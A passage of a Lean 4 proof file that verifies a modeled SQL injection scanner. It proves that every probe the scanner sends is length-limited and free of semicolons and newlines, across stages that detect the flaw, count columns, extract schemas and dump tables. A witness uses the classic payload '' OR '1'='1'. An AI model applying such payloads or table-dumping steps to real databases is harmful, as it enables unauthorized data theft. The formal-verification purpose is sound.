    cases ht : t (setA k v ps) with
    | error e =>
      simp only [ht] at hst
      simp only [List.mem_singleton] at hst
      rw [hst]
      exact hps1
    | ok body =>
      simp only [ht] at hst
      rcases List.mem_cons.mp hst with h1 | h1
      · rw [h1]; exact hps1
      · exact ih (setA k v ps) _ hps1 st h1

theorem schemaKeyLoop_goodReq (orig : Params) (maxLen : Nat) (t : Transport)
    (v : String) (hv : GoodVal maxLen v) :
    ∀ (keys : List String) (ps : Params) (res : SQLRes), GoodReq orig maxLen ps →
    ∀ st ∈ (schemaKeyLoop t v keys ps res).2, GoodReq orig maxLen st.1 := by
  intro keys
  induction keys with
  | nil => intro ps res _ st hst; simp [schemaKeyLoop] at hst
  | cons k ks ih =>
    intro ps res hps st hst
    have hps1 : GoodReq orig maxLen (setA k v ps) := goodReq_setA orig maxLen ps k v hps hv
    simp only [schemaKeyLoop] at hst
    cases ht : t (setA k v ps) with
    | error e =>
      simp only [ht] at hst
      simp only [List.mem_singleton] at hst
      rw [hst]
      exact hps1
    | ok body =>
      simp only [ht] at hst
      rcases List.mem_cons.mp hst with h1 | h1
      · rw [h1]; exact hps1
      · exact ih (setA k v ps) _ hps1 st h1

theorem dumpKeyLoop_goodReq (orig : Params) (maxLen : Nat) (t : Transport)
    (dp tableName : String) (hv : GoodVal maxLen dp) :
    ∀ (keys : List String) (ps : Params) (res : SQLRes), GoodReq orig maxLen ps →
    ∀ st ∈ (dumpKeyLoop t dp tableName keys ps res).2, GoodReq orig maxLen st.1 := by
  intro keys
  induction keys with
  | nil => intro ps res _ st hst; simp [dumpKeyLoop] at hst
  | cons k ks ih =>
    intro ps res hps st hst
    have hps1 : GoodReq orig maxLen (setA k dp ps) :=
      goodReq_setA orig maxLen ps k dp hps hv
    simp only [dumpKeyLoop] at hst
    cases ht : t (setA k dp ps) with
    | error e =>
      simp only [ht] at hst
      simp only [List.mem_singleton] at hst
      rw [hst]
      exact hps1
    | ok body =>
      simp only [ht] at hst
      by_cases hemp : (extractListFromResponse body).isEmpty
      · rw [if_pos hemp] at hst
        rcases List.mem_cons.mp hst with h1 | h1
        · rw [h1]; exact hps1
        · exact ih (setA k dp ps) _ hps1 st h1
      · rw [if_neg hemp] at hst
        rcases List.mem_cons.mp hst with h1 | h1
        · rw [h1]; exact hps1
        · exact ih (setA k dp ps) _ hps1 st h1

theorem structTableLoop_goodReq (orig : Params) (maxLen : Nat) (t : Transport)
    (db : String) (cc : Nat) (k : String) :
    ∀ (tables : List String) (ps : Params) (res : SQLRes), GoodReq orig maxLen ps →
    (∀ st ∈ (structTableLoop t db cc maxLen k tables ps res).2.2.2,
       GoodReq orig maxLen st.1) ∧
    GoodReq orig maxLen (structTableLoop t db cc maxLen k tables ps res).2.1 := by
  intro tables
  induction tables with
  | nil =>
    intro ps res hps
    exact ⟨fun st hst => by simp [structTableLoop] at hst, hps⟩
  | cons table rest ih =>
    intro ps res hps
    simp only [structTableLoop]
    cases hs : sanitizePayload (.str (columnPayload db table cc)) maxLen with
    | error e =>
      simp only [hs]
      exact ⟨fun st hst => by simp at hst, hps⟩
    | ok cp =>
      simp only [hs]
      have hcp : GoodVal maxLen cp := goodVal_sanitize _ maxLen cp hs
      have hps1 : GoodReq orig maxLen (setA k cp ps) :=
        goodReq_setA orig maxLen ps k cp hps hcp
      cases ht : t (setA k cp ps) with
      | error e =>
        simp only [ht]
        refine ⟨fun st hst => ?_, hps1⟩
        simp only [List.mem_singleton] at hst
        rw [hst]
        exact hps1
      | ok body =>
        simp only [ht]
        obtain ⟨ih1, ih2⟩ := ih (setA k cp ps) _ hps1
        refine ⟨fun st hst => ?_, ih2⟩
        rcases List.mem_cons.mp hst with h1 | h1
        · rw [h1]; exact hps1
        · exact ih1 st h1

theorem structKeyLoop_goodReq (orig : Params) (maxLen : Nat) (t : Transport)
    (db : String) (cc : Nat) (tp : String) (htp : GoodVal maxLen tp) :
    ∀ (keys : List String) (ps : Params) (res : SQLRes), GoodReq orig maxLen ps →
    ∀ st ∈ (structKeyLoop t db cc maxLen tp keys ps res).2, GoodReq orig maxLen st.1 := by
  intro keys
  induction keys with
  | nil => intro ps res _ st hst; simp [structKeyLoop] at hst
  | cons k ks ih =>
    intro ps res hps st hst
    have hps1 : GoodReq orig maxLen (setA k tp ps) :=
      goodReq_setA orig maxLen ps k tp hps htp
    simp only [structKeyLoop] at hst
    cases ht : t (setA k tp ps) with
    | error e =>
      simp only [ht] at hst
      simp only [List.mem_singleton] at hst
      rw [hst]
      exact hps1
    | ok body =>
      simp only [ht] at hst
      obtain ⟨hinner, hfinal⟩ := structTableLoop_goodReq orig maxLen t db cc k
        (extractListFromResponse body) (setA k tp ps) res hps1
      cases hok : (structTableLoop t db cc maxLen k
          (extractListFromResponse body) (setA k tp ps) res).1 with
      | true =>
        rw [if_pos hok] at hst
        rcases List.mem_cons.mp hst with h1 | h1
        · rw [h1]; exact hps1
        · rcases List.mem_append.mp h1 with h2 | h2
          · exact hinner st h2
          · exact ih _ _ hfinal st h2
      | false =>
        have hne : ¬((structTableLoop t db cc maxLen k
            (extractListFromResponse body) (setA k tp ps) res).1 = true) := by
          rw [hok]
          exact Bool.false_ne_true
        rw [if_neg hne] at hst
        rcases List.mem_cons.mp hst with h1 | h1
        · rw [h1]; exact hps1
        · exact hinner st h1

theorem testBasicVulnerability_goodReq (orig : Params) (maxLen : Nat)
    (t : Transport) (keys : List String) :
    ∀ (payloads : List String) (o : Option String) (tr : List Params),
    testBasicVulnerability t keys orig maxLen payloads = .ok (o, tr) →
    ∀ req ∈ tr, GoodReq orig maxLen req := by
  intro payloads
  induction payloads with
  | nil =>
    intro o tr h req hreq
    simp only [testBasicVulnerability, Except.ok.injEq, Prod.mk.injEq] at h
    rw [← h.2] at hreq
    cases hreq
  | cons p rest ih =>
    intro o tr h req hreq
    simp only [testBasicVulnerability, bind, Except.bind] at h
    cases hs : sanitizePayload (.str p) maxLen with
    | error e => simp only [hs] at h; cases h
    | ok sp =>
      simp only [hs] at h
      have hsp : GoodVal maxLen sp := goodVal_sanitize _ maxLen sp hs
      have hloopGood := probeParamsLoop_goodReq orig maxLen t detectionSig sp hsp
        keys orig (goodReq_refl orig maxLen)
      cases hloop : probeParamsLoop t detectionSig sp keys orig with
      | mk pend ptr =>
        simp only [hloop] at h
        cases pend with
        | hit =>
          simp only [Except.ok.injEq, Prod.mk.injEq] at h
          rw [← h.2] at hreq
          exact hloopGood req (by rw [hloop] at hloopGood ⊢; exact hreq)
        | err =>
          cases hrest : testBasicVulnerability t keys orig maxLen rest with
          | error e => simp only [hrest] at h; cases h
          | ok pr =>
            simp only [hrest] at h
            simp only [Except.ok.injEq, Prod.mk.injEq] at h
            rw [← h.2] at hreq
            rcases List.mem_append.mp hreq with h1 | h1
            · exact hloopGood req (by rw [hloop]; exact h1)
            · exact ih pr.1 pr.2 (by rw [hrest]) req h1
        | exhausted =>
          cases hrest : testBasicVulnerability t keys orig maxLen rest with
          | error e => simp only [hrest] at h; cases h
          | ok pr =>
            simp only [hrest] at h
            simp only [Except.ok.injEq, Prod.mk.injEq] at h
            rw [← h.2] at hreq
            rcases List.mem_append.mp hreq with h1 | h1
            · exact hloopGood req (by rw [hloop]; exact h1)
            · exact ih pr.1 pr.2 (by rw [hrest]) req h1

theorem findColumnCountAux_goodReq (orig : Params) (maxLen : Nat)
    (t : Transport) (keys : List String) :
    ∀ (payloads : List String) (n cnt : Nat) (tr : List Params),
    findColumnCountAux t keys orig maxLen n payloads = .ok (cnt, tr) →
    ∀ req ∈ tr, GoodReq orig maxLen req := by
  intro payloads
  induction payloads with
  | nil =>
    intro n cnt tr h req hreq
    simp only [findColumnCountAux, Except.ok.injEq, Prod.mk.injEq] at h
    rw [← h.2] at hreq
    cases hreq
  | cons p rest ih =>
    intro n cnt tr h req hreq
    simp only [findColumnCountAux, bind, Except.bind] at h
    cases hs : sanitizePayload (.str p) maxLen with
    | error e => simp only [hs] at h; cases h
    | ok sp =>
      simp only [hs] at h
      have hsp : GoodVal maxLen sp := goodVal_sanitize _ maxLen sp hs
      have hloopGood := probeParamsLoop_goodReq orig maxLen t colAccept sp hsp
        keys orig (goodReq_refl orig maxLen)
      cases hloop : probeParamsLoop t colAccept sp keys orig with
      | mk pend ptr =>
        simp only [hloop] at h
        cases pend with
        | hit =>
          simp only [Except.ok.injEq, Prod.mk.injEq] at h
          rw [← h.2] at hreq
          exact hloopGood req (by rw [hloop]; exact hreq)
        | err =>
          cases hrest : findColumnCountAux t keys orig maxLen (n + 1) rest with
          | error e => simp only [hrest] at h; cases h
          | ok pr =>
            simp only [hrest] at h
            simp only [Except.ok.injEq, Prod.mk.injEq] at h
            rw [← h.2] at hreq
            rcases List.mem_append.mp hreq with h1 | h1
            · exact hloopGood req (by rw [hloop]; exact h1)
            · exact ih (n + 1) pr.1 pr.2 (by rw [hrest]) req h1
        | exhausted =>
          cases hrest : findColumnCountAux t keys orig maxLen (n + 1) rest with
          | error e => simp only [hrest] at h; cases h
          | ok pr =>
            simp only [hrest] at h
            simp only [Except.ok.injEq, Prod.mk.injEq] at h
            rw [← h.2] at hreq
            rcases List.mem_append.mp hreq with h1 | h1
            · exact hloopGood req (by rw [hloop]; exact h1)
            · exact ih (n + 1) pr.1 pr.2 (by rw [hrest]) req h1

theorem extractSystemInfo_goodReq (orig : Params) (maxLen : Nat) (t : Transport)
    (keys : List String) (cc : Nat) :
    ∀ (ks : List InfoKey) (res out : SQLRes) (tr : List (Params × SQLRes)),
    extractSystemInfo t keys orig cc maxLen ks res = .ok (out, tr) →
    ∀ st ∈ tr, GoodReq orig maxLen st.1 := by
  intro ks
  induction ks with
  | nil =>
    intro res out tr h st hst
    simp only [extractSystemInfo, Except.ok.injEq, Prod.mk.injEq] at h
    rw [← h.2] at hst
    cases hst
  | cons key rest ih =>
    intro res out tr h st hst
    simp only [extractSystemInfo, bind, Except.bind] at h
    cases hs : sanitizePayload (.str (sysInfoPayloadFor key cc)) maxLen with
    | error e => simp only [hs] at h; cases h
    | ok sp =>
      simp only [hs] at h
      have hsp : GoodVal maxLen sp := goodVal_sanitize _ maxLen sp hs
      cases hrest : extractSystemInfo t keys orig cc maxLen rest
          (sysKeyLoop t sp key keys orig res).1 with
      | error e => simp only [hrest] at h; cases h
      | ok pr =>
        simp only [hrest] at h
        simp only [Except.ok.injEq, Prod.mk.injEq] at h
        rw [← h.2] at hst
        rcases List.mem_append.mp hst with h1 | h1
        · exact sysKeyLoop_goodReq orig maxLen t sp key hsp keys orig res
            (goodReq_refl orig maxLen) st h1
        · exact ih _ pr.1 pr.2 (by rw [hrest]) st h1

theorem extractDatabaseSchemas_goodReq (orig : Params) (maxLen : Nat)
    (t : Transport) (keys : List String) (cc : Nat) (res out : SQLRes)
    (tr : List (Params × SQLRes))
    (h : extractDatabaseSchemas t keys orig cc maxLen res = .ok (out, tr)) :
    ∀ st ∈ tr, GoodReq orig maxLen st.1 := by
  simp only [extractDatabaseSchemas, bind, Except.bind] at h
  cases hs : sanitizePayload (.str (schemaPayload cc)) maxLen with
  | error e => simp only [hs] at h; cases h
  | ok sp =>
    simp only [hs] at h
    simp only [Except.ok.injEq, Prod.ext_iff] at h
    intro st hst
    rw [← h.2] at hst
    exact schemaKeyLoop_goodReq orig maxLen t sp
      (goodVal_sanitize _ maxLen sp hs) keys orig res
      (goodReq_refl orig maxLen) st hst

theorem extractStructures_goodReq (orig : Params) (maxLen : Nat) (t : Transport)
    (keys : List String) (cc : Nat) :
    ∀ (dbs : List String) (res out : SQLRes) (tr : List (Params × SQLRes)),
    extractStructures t keys orig cc maxLen dbs res = .ok (out, tr) →
    ∀ st ∈ tr, GoodReq orig maxLen st.1 := by
  intro dbs
  induction dbs with
  | nil =>
    intro res out tr h st hst
    simp only [extractStructures, Except.ok.injEq, Prod.mk.injEq] at h
    rw [← h.2] at hst
    cases hst
  | cons db rest ih =>
    intro res out tr h st hst
    simp only [extractStructures, bind, Except.bind] at h
    cases h1 : extractDatabaseStructure t keys orig cc db maxLen res with
    | error e => simp only [h1] at h; cases h
    | ok pr1 =>
      simp only [h1] at h
      cases h2 : extractStructures t keys orig cc maxLen rest pr1.1 with
      | error e => simp only [h2] at h; cases h
      | ok pr2 =>
        simp only [h2] at h
        simp only [Except.ok.injEq, Prod.mk.injEq] at h
        rw [← h.2] at hst
        rcases List.mem_append.mp hst with hm | hm
        · have h1b : extractDatabaseStructure t keys orig cc db maxLen res =
              .ok (pr1.1, pr1.2) := by rw [h1]
          simp only [extractDatabaseStructure, bind, Except.bind] at h1b
          cases hs : sanitizePayload (.str (tablePayload db cc)) maxLen with
          | error e => simp only [hs] at h1b; cases h1b
          | ok tp =>
            simp only [hs] at h1b
            simp only [Except.ok.injEq, Prod.ext_iff] at h1b
            rw [← h1b.2] at hm
            exact structKeyLoop_goodReq orig maxLen t db cc tp
              (goodVal_sanitize _ maxLen tp hs) keys orig res
              (goodReq_refl orig maxLen) st hm
        · exact ih pr1.1 pr2.1 pr2.2 (by rw [h2]) st hm

theorem dumpAllTables_goodReq (orig : Params) (maxLen : Nat) (t : Transport)
    (keys : List String) (cc : Nat) :
    ∀ (tables : List String) (res out : SQLRes) (tr : List (Params × SQLRes)),
    dumpAllTables t keys orig cc maxLen tables res = .ok (out, tr) →
    ∀ st ∈ tr, GoodReq orig maxLen st.1 := by
  intro tables
  induction tables with
  | nil =>
    intro res out tr h st hst
    simp only [dumpAllTables, Except.ok.injEq, Prod.mk.injEq] at h
    rw [← h.2] at hst
    cases hst
  | cons table rest ih =>
    intro res out tr h st hst
    simp only [dumpAllTables] at h
    by_cases hemp : (res.columns.filter (fun c => hasSubS table c)).isEmpty
    · rw [if_pos hemp] at h
      exact ih res out tr h st hst
    · rw [if_neg hemp] at h
      simp only [bind, Except.bind] at h
      cases hs : sanitizePayload
          (.str (dumpPayloadFor (res.columns.filter (fun c => hasSubS table c))
            table cc)) maxLen with
      | error e => simp only [hs] at h; cases h
      | ok dp =>
        simp only [hs] at h
        cases h2 : dumpAllTables t keys orig cc maxLen rest
            (dumpKeyLoop t dp table keys orig res).1 with
        | error e => simp only [h2] at h; cases h
        | ok pr2 =>
          simp only [h2] at h
          simp only [Except.ok.injEq, Prod.mk.injEq] at h
          rw [← h.2] at hst
          rcases List.mem_append.mp hst with hm | hm
          · exact dumpKeyLoop_goodReq orig maxLen t dp table
              (goodVal_sanitize _ maxLen dp hs) keys orig res
              (goodReq_refl orig maxLen) st hm
          · exact ih _ pr2.1 pr2.2 (by rw [h2]) st hm

theorem testSQLInjection_goodReq (t : Transport) (ps0 : Params)
    (det col : List String) (maxLen : Nat) (res : SQLRes)
    (steps : List (Params × SQLRes))
    (h : testSQLInjection t ps0 det col maxLen = .ok (res, steps)) :
    ∀ st ∈ steps, GoodReq ps0 maxLen st.1 := by
  simp only [testSQLInjection, bind, Except.bind] at h
  cases h1 : testBasicVulnerability t (ps0.map Prod.fst) ps0 maxLen det with
  | error e => simp only [h1] at h; cases h
  | ok r1 =>
    simp only [h1] at h
    have hdet : ∀ req ∈ r1.2, GoodReq ps0 maxLen req :=
      testBasicVulnerability_goodReq ps0 maxLen t (ps0.map Prod.fst) det r1.1 r1.2
        (by rw [h1])
    cases hev : r1.1 with
    | none =>
      simp only [hev] at h
      simp only [Except.ok.injEq, Prod.mk.injEq] at h
      intro st hst
      rw [← h.2] at hst
      obtain ⟨p, hp, rfl⟩ := List.mem_map.mp hst
      exact hdet p hp
    | some sp =>
      simp only [hev] at h
      cases h2 : findColumnCount t (ps0.map Prod.fst) ps0 maxLen col with
      | error e => simp only [h2] at h; cases h
      | ok r2 =>
        simp only [h2] at h
        have hcol : ∀ req ∈ r2.2, GoodReq ps0 maxLen req :=
          findColumnCountAux_goodReq ps0 maxLen t (ps0.map Prod.fst) col 0 r2.1 r2.2
            (by rw [← h2]; rfl)
        by_cases hz : r2.1 = 0
        · rw [if_pos hz] at h
          simp only [Except.ok.injEq, Prod.mk.injEq] at h
          intro st hst
          rw [← h.2] at hst
          rcases List.mem_append.mp hst with hm | hm
          · obtain ⟨p, hp, rfl⟩ := List.mem_map.mp hm
            exact hdet p hp
          · obtain ⟨p, hp, rfl⟩ := List.mem_map.mp hm
            exact hcol p hp
        · rw [if_neg hz] at h
          cases h3 : extractSystemInfo t (ps0.map Prod.fst) ps0 r2.1 maxLen
              [InfoKey.version, InfoKey.user, InfoKey.currentDb]
              { initRes with vulnerable := true, successfulPayloads := [sp] } with
          | error e => simp only [h3] at h; cases h
          | ok r3 =>
            simp only [h3] at h
            cases h4 : extractDatabaseSchemas t (ps0.map Prod.fst) ps0 r2.1
                maxLen r3.1 with
            | error e => simp only [h4] at h; cases h
            | ok r4 =>
              simp only [h4] at h
              cases h5 : extractStructures t (ps0.map Prod.fst) ps0 r2.1 maxLen
                  r4.1.databases r4.1 with
              | error e => simp only [h5] at h; cases h
              | ok r5 =>
                simp only [h5] at h
                cases h6 : dumpAllTables t (ps0.map Prod.fst) ps0 r2.1 maxLen
                    r5.1.tables r5.1 with
                | error e => simp only [h6] at h; cases h
                | ok r6 =>
                  simp only [h6] at h
                  simp only [Except.ok.injEq, Prod.mk.injEq] at h
                  intro st hst
                  rw [← h.2] at hst
                  rcases List.mem_append.mp hst with hm | hm
                  · rcases List.mem_append.mp hm with hm2 | hm2
                    · rcases List.mem_append.mp hm2 with hm3 | hm3
                      · rcases List.mem_append.mp hm3 with hm4 | hm4
                        · rcases List.mem_append.mp hm4 with hm5 | hm5
                          · obtain ⟨p, hp, rfl⟩ := List.mem_map.mp hm5
                            exact hdet p hp
                          · obtain ⟨p, hp, rfl⟩ := List.mem_map.mp hm5
                            exact hcol p hp
                        · exact extractSystemInfo_goodReq ps0 maxLen t
                            (ps0.map Prod.fst) r2.1 _ _ r3.1 r3.2 (by rw [h3]) st hm4
                      · exact extractDatabaseSchemas_goodReq ps0 maxLen t
                          (ps0.map Prod.fst) r2.1 r3.1 r4.1 r4.2 (by rw [h4]) st hm3
                    · exact extractStructures_goodReq ps0 maxLen t
                        (ps0.map Prod.fst) r2.1 r4.1.databases r4.1 r5.1 r5.2
                        (by rw [h5]) st hm2
                  · exact dumpAllTables_goodReq ps0 maxLen t (ps0.map Prod.fst)
                      r2.1 r5.1.tables r5.1 r6.1 r6.2 (by rw [h6]) st hm

/-- C10.  `sanitizePayload` throws exactly for non-strings and over-long
strings; a sanitized payload is at most `maxPayloadLength` long and free of
`;`, `\r`, `\n`; and every request issued anywhere in a `testSQLInjection`
run carries, in each query parameter, either an original parameter of the
URL or a sanitized payload — so no probe ever sends a payload longer than
`maxPayloadLength` or containing `;`. -/
theorem c10_sanitize_payload :
    (∀ (item : JsItem) (maxLen : Nat),
       (∃ e, sanitizePayload item maxLen = .error e) ↔
         item = JsItem.nonString ∨
         ∃ s, item = JsItem.str s ∧ maxLen < s.length) ∧
    (∀ (item : JsItem) (maxLen : Nat) (out : String),
       sanitizePayload item maxLen = .ok out → GoodVal maxLen out) ∧
    (∀ (t : Transport) (ps0 : Params) (det col : List String) (maxLen : Nat)
       (res : SQLRes) (steps : List (Params × SQLRes)),
       testSQLInjection t ps0 det col maxLen = .ok (res, steps) →
       ∀ st ∈ steps, GoodReq ps0 maxLen st.1) := by
  refine ⟨?_, goodVal_sanitize, testSQLInjection_goodReq⟩
  intro item maxLen
  cases item with
  | nonString =>
    constructor
    · intro _
      exact Or.inl rfl
    · intro _
      exact ⟨"Payload must be a string", rfl⟩
  | str s =>
    by_cases hlen : s.length > maxLen
    · simp only [sanitizePayload, if_pos hlen]
      constructor
      · intro _
        exact Or.inr ⟨s, rfl, hlen⟩
      · intro _
        exact ⟨"Payload exceeds maximum length", rfl⟩
    · simp only [sanitizePayload, if_neg hlen]
      constructor
      · rintro ⟨e, he⟩
        cases he
      · rintro (hns | ⟨s2, hs2, hgt⟩)
        · cases hns
        · injection hs2 with hss
          rw [hss] at hlen
          exact absurd hgt hlen

/-- Witness for C10 on concrete inputs. -/
theorem c10_sanitize_payload_witness :
    sanitizePayload (.str "a;b\nc") 1000 = .ok "abc" ∧
    GoodVal 1000 "abc" ∧
    (∃ e, sanitizePayload JsItem.nonString 5 = .error e) ∧
    (∀ st ∈ ([([("id", "' OR '1'='1")], initRes)] : List (Params × SQLRes)),
       GoodReq ps1 1000 st.1) := by
  refine ⟨by rfl, ?_, ?_, ?_⟩
  · exact c10_sanitize_payload.2.1 (.str "a;b\nc") 1000 "abc" (by rfl)
  · exact (c10_sanitize_payload.1 JsItem.nonString 5).mpr (Or.inl rfl)
  · exact c10_sanitize_payload.2.2 stub1 ps1 DET1 [] 1000
      (vulnOnly "' OR '1'='1") [([("id", "' OR '1'='1")], initRes)] (by rfl)
